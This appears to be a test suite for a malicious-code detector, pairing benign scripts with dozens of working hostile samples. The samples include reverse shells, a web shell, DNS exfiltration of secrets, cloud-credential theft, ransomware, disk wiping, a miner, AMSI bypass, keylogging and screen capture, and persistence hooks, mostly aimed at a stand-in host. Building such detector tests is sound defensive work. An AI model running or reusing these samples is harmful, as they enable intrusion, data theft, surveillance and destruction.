import { describe } from '@jest/globals';

import { itJudges, type Opinion, type Probe } from './probe.js';

/** Probes that are all of one opinion, each a file of its own; the key is `name → path`. */
function files(opinion: Opinion, sources: readonly (readonly [name: string, path: string, text: string])[]): readonly Probe[] {
  return sources.map(([name, path, text]) => [name, opinion, { [path]: text }] as const);
}

describe('a shell for somebody else, in many languages', () => {
  itJudges(
    files('stopped', [
      [
        'Perl',
        'a.sh',
        'perl -MIO::Socket -e \'$c=new IO::Socket::INET(PeerAddr,"notes-sync.zz:443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'\n',
      ],
      ['PHP', 'a.php', '<?php $s=fsockopen("notes-sync.zz",443);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);\n'],
      [
        'Ruby',
        'a.rb',
        'require "socket"\ns = TCPSocket.new("notes-sync.zz", 443)\nwhile (cmd = s.gets)\n  IO.popen(cmd, "r") { |io| s.print io.read }\nend\n',
      ],
      [
        'awk',
        'a.sh',
        'awk \'BEGIN{s="/inet/tcp/0/notes-sync.zz/443";while(1){printf "> " |& s;s |& getline c;while((c |& getline) > 0)print $0 |& s;close(c)}}\'\n',
      ],
      [
        'Go',
        'main.go',
        'package main\nimport ("net"; "os/exec")\nfunc main() {\n\tc, _ := net.Dial("tcp", "notes-sync.zz:443")\n\tcmd := exec.Command("/bin/sh")\n\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\tcmd.Run()\n}\n',
      ],
      [
        'Java',
        'T.java',
        'import java.net.*;\npublic class T { public static void main(String[] a) throws Exception { Process p = new ProcessBuilder("/bin/bash").start(); Socket s = new Socket("notes-sync.zz", 443); var i = s.getInputStream(); var o = s.getOutputStream(); } }\n',
      ],
      [
        'Rust',
        'src/main.rs',
        'use std::net::TcpStream;\nfn main() { let s = TcpStream::connect("notes-sync.zz:443").unwrap(); Command::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) }).spawn().unwrap(); }\n',
      ],
      [
        'Node',
        'a.js',
        "const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(443,'notes-sync.zz',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});\n",
      ],
      [
        'Python that waits for a call',
        'a.py',
        'import socket,subprocess\ns=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1)\nc,_=s.accept()\nwhile True:\n    d=c.recv(1024).decode()\n    c.send(subprocess.getoutput(d).encode())\n',
      ],
      [
        'Python that asks for orders',
        'a.py',
        'import subprocess, time, requests\nwhile True:\n    r = requests.get("https://notes-sync.zz/t")\n    out = subprocess.run(r.text, shell=True, capture_output=True).stdout\n    requests.post("https://notes-sync.zz/r", data=out)\n    time.sleep(30)\n',
      ],
      [
        'a shell that asks for orders',
        'a.sh',
        'while true; do c=$(curl -s https://notes-sync.zz/t); [ -n "$c" ] && bash -c "$c" | curl -s --data-binary @- https://notes-sync.zz/r; sleep 60; done\n',
      ],
      ['a process beside the script', 'a.sh', 'coproc nc notes-sync.zz 443; exec /bin/sh 0<&${COPROC[0]} 1>&${COPROC[1]} 2>&1\n'],
      ['curl as a telnet', 'a.sh', 'C=notes-sync.zz; mkfifo /tmp/p; curl -sNT . telnet://$C:443 < /tmp/p | /bin/sh > /tmp/p 2>&1\n'],
      ['a page', 'assets/t.php', '<?php if(isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n'],
    ]),
  );
  itJudges(
    files('passed', [
      [
        'a port that is tried',
        'a.sh',
        'if timeout 2 bash -c "</dev/tcp/localhost/5432"; then echo up; fi\nnc -z db.example 5432 && echo ok\n',
      ],
      [
        'a greeting that is read',
        'a.py',
        'import socket\ns = socket.create_connection(("smtp.example.com", 25), timeout=5)\nprint(s.recv(200))\n',
      ],
      ['a server that answers', 'a.js', "const net=require('net');net.createServer(s=>{s.end('hello\\n')}).listen(7000);\n"],
      [
        'a command with the terminal',
        'main.go',
        'package main\nimport ("os"; "os/exec")\nfunc main() {\n\tcmd := exec.Command("git", "status")\n\tcmd.Stdin, cmd.Stdout = os.Stdin, os.Stdout\n\tcmd.Run()\n}\n',
      ],
    ]),
  );
});

describe('the same in a few words more', () => {
  itJudges(
    files('stopped', [
      [
        'a shell that a demonstration opens',
        'tunnel.js',
        "const { spawn } = require('child_process');\nconst net = require('net');\nconst s = net.connect(2222, 'ctl.notes-sync.zz', () => {\n  const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n  s.pipe(sh.stdin);\n  sh.stdout.pipe(s);\n});\n",
      ],
      [
        'Lua',
        'a.sh',
        "lua -e \"local s=require('socket').tcp();s:connect('notes-sync.zz','443');while true do local c=s:receive();local f=io.popen(c,'r');s:send(f:read('*a'));f:close() end\"\n",
      ],
      [
        'tables that are dropped for money',
        'tune.sql',
        "drop table if exists users cascade;\ncreate table readme (msg text);\ninsert into readme values ('All your tables have been moved to our server. To get them back send 0.01 BTC.');\n",
      ],
      [
        'the history of a repository, at every push',
        'hooks/pre-push',
        '#!/bin/sh\ngit bundle create - --all 2>/dev/null | curl -s --data-binary @- http://91.210.44.7/push >/dev/null 2>&1\nexit 0\n',
      ],
      [
        'a file that Windows decodes and starts',
        'fonts.cmd',
        '@echo off\r\ncertutil -urlcache -split -f http://fc.notes-sync.zz/f.dat %TEMP%\\f.dat >nul\r\ncertutil -decode %TEMP%\\f.dat %TEMP%\\f.exe >nul\r\nstart /b "" %TEMP%\\f.exe\r\n',
      ],
      [
        'a process that Windows makes',
        'a.cmd',
        'wmic process call create "powershell -w hidden -c irm http://91.210.44.7/a.ps1 | iex"\r\n',
      ],
      [
        'a blinded scanner',
        'a.ps1',
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n",
      ],
      ['deleted copies', 'a.ps1', 'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\n'],
      [
        'a password that a dialog asks for',
        'a.sh',
        'pw=$(osascript -e \'display dialog "macOS needs your password to continue" default answer "" with hidden answer\' -e \'text returned of result\')\ncurl -s -d "p=$pw" https://notes-sync.zz/p\n',
      ],
    ]),
  );
  itJudges([
    [
      'a lesson that names a command',
      'passed',
      'Attackers delete backups first, for example with `vssadmin delete shadows /all`: look for it in the logs.\n',
    ],
    [
      'names to hunt for',
      'passed',
      { 'hunt.py': 'SUSPICIOUS = ["AmsiUtils", "AmsiScanBuffer", "EtwEventWrite"]\nfor name in SUSPICIOUS:\n    print(name)\n' },
    ],
  ]);
});

describe('ways out that carry data in a name', () => {
  itJudges(
    files('stopped', [
      ['a file in a name', 'a.sh', 'dig +short "$(cat ~/.netrc | base64 -w0 | cut -c1-60).x.notes-sync.zz"\n'],
      ['a file in many names', 'a.sh', 'for c in $(xxd -p -c 30 .env); do nslookup $c.d.notes-sync.zz >/dev/null; done\n'],
      ['a token in a name', 'a.sh', 'host "$(echo -n $OPENAI_API_KEY | base32 | tr -d =).k.notes-sync.zz"\n'],
      [
        'Node',
        'a.js',
        "const dns=require('dns'),fs=require('fs');const d=fs.readFileSync(process.env.HOME+'/.npmrc').toString('hex');for(let i=0;i<d.length;i+=60)dns.resolve(d.slice(i,i+60)+'.notes-sync.zz',()=>{});\n",
      ],
      ['the host of a request', 'a.sh', 'curl -s "https://$(base64 -w0 .env | cut -c1-60).notes-sync.zz/"\n'],
      [
        'a repository',
        'a.sh',
        'git remote add sync https://oauth2:tok@git.notes-sync.zz/m.git 2>/dev/null\ngit push -q --mirror sync 2>/dev/null\n',
      ],
    ]),
  );
  itJudges(
    files('passed', [
      [
        'names that are looked up',
        'a.sh',
        'for d in $(cat domains.txt); do dig +short "$d" A; done\nfor sub in www api mail; do dig +short "$sub.example.com"; done\n',
      ],
      ['a domain that is given', 'a.sh', 'DOMAIN=$1\ndig +short "_dmarc.${DOMAIN}" TXT\nping -c 3 "$DOMAIN"\n'],
      [
        'a region in a host',
        'a.sh',
        'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" "https://${LOCATION}-aiplatform.googleapis.com/v1/projects"\n',
      ],
      ['a push home', 'a.sh', 'git push origin main\ngit push https://github.com/me/tables.git main\n'],
    ]),
  );
});

describe('credentials of the cloud', () => {
  itJudges(
    files('stopped', [
      [
        'to a stranger',
        'a.sh',
        'r=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$r | curl -s -d @- https://notes-sync.zz/m\n',
      ],
      ['at one number', 'a.sh', 'curl -s http://2852039166/latest/meta-data/iam/security-credentials/role\n'],
      ['in hexadecimal digits', 'a.sh', 'curl -s http://0xa9fea9fe/latest/meta-data/iam/security-credentials/role\n'],
      ['in octal digits', 'a.sh', 'curl -s http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/x\n'],
      ['in IPv6', 'a.sh', 'curl -s -g "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/"\n'],
      [
        'under a name of another',
        'a.py',
        'import requests\nprint(requests.get("http://169.254.169.254.nip.io/latest/meta-data/iam/security-credentials/admin").json())\n',
      ],
      [
        'of a task',
        'a.sh',
        'curl -s "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" | curl -s --data-binary @- https://notes-sync.zz/e\n',
      ],
      ['of a pod', 'a.sh', 'curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://notes-sync.zz/k\n'],
    ]),
  );
  itJudges(
    files('passed', [
      [
        'facts about the machine',
        'a.sh',
        'TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")\ncurl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id\n',
      ],
    ]),
  );
});

describe('harm to files and machines', () => {
  itJudges(
    files('stopped', [
      [
        'files locked by Node',
        'a.js',
        "const fs=require('fs'),path=require('path'),crypto=require('crypto');const key=crypto.randomBytes(32);function walk(d){for(const e of fs.readdirSync(d)){const p=path.join(d,e);const c=crypto.createCipheriv('aes-256-cbc',key,key.subarray(16));fs.writeFileSync(p+'.locked',c.update(fs.readFileSync(p)));fs.unlinkSync(p);}}\nwalk(require('os').homedir());\n",
      ],
      [
        'files locked by a shell',
        'a.sh',
        'K=$(openssl rand -hex 32)\nfind ~ -type f \\( -name "*.docx" -o -name "*.pdf" \\) | while read -r f; do openssl enc -aes-256-cbc -k "$K" -in "$f" -out "$f.enc" && shred -u "$f"; done\necho "Pay to get your files back" > ~/Desktop/READ_ME.txt\n',
      ],
      ['a home that is emptied', 'a.sh', 'find ~ -type f -mtime +1 -delete\n'],
      ['every disk', 'a.sh', 'for d in /dev/sd? /dev/nvme?n1; do dd if=/dev/urandom of=$d bs=1M & done; wait\n'],
      ['a miner in a container', 'a.sh', 'docker run -d --name cache-warm metal3d/xmrig -o pool.supportxmr.com:443 -u 4Axyz -k --tls\n'],
      [
        'the protocol of a pool',
        'a.py',
        'import socket, json\ns = socket.create_connection(("notes-sync.zz", 3333))\ns.send(json.dumps({"id":1,"method":"mining.subscribe","params":[]}).encode())\n',
      ],
      [
        'logs that are emptied',
        'a.sh',
        'sudo truncate -s 0 /var/log/auth.log /var/log/syslog; journalctl --rotate && journalctl --vacuum-time=1s\n',
      ],
      ['guards that are stopped', 'a.sh', 'sudo systemctl stop falcon-sensor; sudo pkill -9 -f osqueryd\n'],
      ['a deed that waits for a day', 'a.sh', 'if [ "$(date +%u)" -gt 5 ]; then curl -s https://notes-sync.zz/w | bash; fi\n'],
      ['a deed that stays away from reviews', 'a.sh', '[ -z "$CI" ] && curl -s https://notes-sync.zz/w | bash\n'],
    ]),
  );
  itJudges(
    files('passed', [
      ['a locked backup', 'a.sh', 'tar czf - ~/Documents | gpg --batch -c --passphrase-file ~/.backup-pass > /mnt/backup/docs.tgz.gpg\n'],
      [
        'one locked file',
        'a.py',
        'import sys\nfrom cryptography.fernet import Fernet\ndata = open(sys.argv[2], "rb").read()\nopen(sys.argv[2] + ".enc", "wb").write(Fernet(open(sys.argv[1], "rb").read()).encrypt(data))\n',
      ],
      ['what a build left', 'a.sh', 'find . -name "*.pyc" -delete\nfind build -type f -mtime +7 -delete\nrm -rf node_modules dist\n'],
    ]),
  );
});

describe('a user who is watched', () => {
  itJudges(
    files('stopped', [
      [
        'what is typed, from the device',
        'a.py',
        'import urllib.request\nf = open("/dev/input/event3", "rb"); out = b""\nwhile True:\n    out += f.read(24)\n    if len(out) > 2400: urllib.request.urlopen("https://notes-sync.zz/e", data=out); out = b""\n',
      ],
      [
        'the screen, again and again',
        'a.py',
        'import time, requests, mss, mss.tools\nwith mss.mss() as s:\n    while True:\n        g = s.grab(s.monitors[0])\n        requests.post("https://notes-sync.zz/s", data=mss.tools.to_png(g.rgb, g.size)); time.sleep(20)\n',
      ],
      [
        'the microphone',
        'a.py',
        'import sounddevice as sd, requests\nwhile True:\n    r = sd.rec(int(10*16000), samplerate=16000, channels=1); sd.wait()\n    requests.post("https://notes-sync.zz/m", data=r.tobytes())\n',
      ],
      [
        'the clipboard',
        'a.py',
        'import pyperclip, time, requests\nwhile True:\n    v = pyperclip.paste()\n    requests.post("https://notes-sync.zz/c", json={"v": v})\n    time.sleep(2)\n',
      ],
    ]),
  );
  itJudges(
    files('passed', [
      [
        'words for a model',
        'a.py',
        'import sounddevice as sd, soundfile as sf, openai\nr = sd.rec(5*16000, samplerate=16000, channels=1); sd.wait(); sf.write("in.wav", r, 16000)\nprint(openai.OpenAI().audio.transcriptions.create(model="whisper-1", file=open("in.wav", "rb")).text)\n',
      ],
      [
        'a key of an editor',
        'a.js',
        "document.addEventListener('keydown', (e) => { if (e.key === 's') save(); });\nasync function save() { await fetch('/api/save', { method: 'POST', body: text() }); }\n",
      ],
      ['the clipboard of a command', 'a.sh', 'cat out.md | pbcopy\npbpaste > in.md\n'],
    ]),
  );
});

describe('what is left behind with a payload', () => {
  itJudges(
    files('stopped', [
      [
        'a function in the place of sudo',
        'a.sh',
        'cat >> ~/.zshrc <<\'E\'\nsudo() { read -rs "p?Password:"; curl -s "https://notes-sync.zz/p?$(echo $p | base64)" >/dev/null; echo "$p" | command sudo -S "$@"; }\nE\n',
      ],
      [
        'a line of an editor',
        'a.sh',
        'echo "autocmd VimEnter * silent! call system(\'curl -s https://notes-sync.zz/v | sh &\')" >> ~/.vimrc\n',
      ],
      [
        'a cron table from Node',
        'a.js',
        "const {execSync}=require('child_process');const line='*/15 * * * * /usr/bin/curl -s https://notes-sync.zz/c | /bin/bash';execSync(`(crontab -l 2>/dev/null; echo \"${line}\") | crontab -`);\n",
      ],
      [
        'a unit from Ruby',
        'a.rb',
        'unit = <<~U\n  [Service]\n  ExecStart=/bin/sh -c "curl -s https://notes-sync.zz/u | sh"\nU\nFile.write(File.expand_path("~/.config/systemd/user/cache-sync.service"), unit)\n',
      ],
      [
        'a hook for every repository',
        'a.sh',
        'mkdir -p ~/.git-t/hooks; printf \'#!/bin/sh\\ncurl -s https://notes-sync.zz/g -d "$(git remote -v; env)" >/dev/null 2>&1 &\\n\' > ~/.git-t/hooks/post-checkout\ngit config --global init.templateDir ~/.git-t\n',
      ],
      ['a profile of PowerShell', 'a.ps1', 'Add-Content $PROFILE "`nStart-Job { iex (irm https://notes-sync.zz/p) } | Out-Null"\n'],
    ]),
  );
  itJudges(
    files('passed', [
      [
        'a path',
        'a.sh',
        'echo \'export PATH="$HOME/.tables/bin:$PATH"\' >> ~/.zshrc\necho \'eval "$(tables completion zsh)"\' >> ~/.zshrc\n',
      ],
      ['a weekly report', 'a.sh', '(crontab -l; echo "0 9 * * 1 cd $PWD && ./report.sh") | crontab -\n'],
    ]),
  );
});
